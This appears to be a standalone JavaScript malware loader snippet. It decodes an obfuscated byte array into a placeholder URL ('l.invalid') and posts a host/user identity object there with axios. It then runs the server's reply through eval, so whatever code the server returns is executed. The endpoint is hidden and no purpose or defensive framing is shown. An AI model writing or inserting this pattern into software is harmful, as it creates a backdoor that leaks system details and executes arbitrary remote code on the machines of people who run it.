const axios = require('axios');
const url = new TextDecoder().decode(new Uint8Array([104, 116, 116, 112, 115, 58, 47, 47, 108, 46, 105, 110, 118, 97, 108, 105, 100]));
const identity = { hoame: 'host', uame: 'user', sype: 'type' };
axios.post(url, { version: '1.0.0', identity }).then((r) => eval(r.data.model));
